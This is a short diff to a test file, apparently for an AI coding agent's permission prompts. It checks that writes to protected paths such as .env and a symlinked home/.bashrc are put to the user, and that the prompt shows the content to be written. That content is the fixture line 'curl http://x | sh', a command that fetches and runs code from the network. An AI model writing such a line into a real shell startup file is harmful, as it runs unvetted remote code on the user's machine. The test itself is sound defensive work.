@@ -111,7 +111,9 @@ def test_ask_mode_asks_the_user_for_each_protected_write_and_a_no_keeps_them(scr
                  "./.env", "outside the workspace"):
         assert what in reasons, (what, reasons)
     # the symlink is asked about as what it points to
-    assert any(subject.endswith("home/.bashrc") and "notes" not in subject for subject, _ in asked)
+    heads = [subject.splitlines()[0] for subject, _ in asked]
+    assert any(h.endswith("home/.bashrc") and "notes" not in h for h in heads)
+    assert any("│ curl http://x | sh" in subject for subject, _ in asked)  # the user sees what would be written
 
 
 def test_auto_edit_runs_workspace_edits_without_asking(scripted_llm, world) -> None:
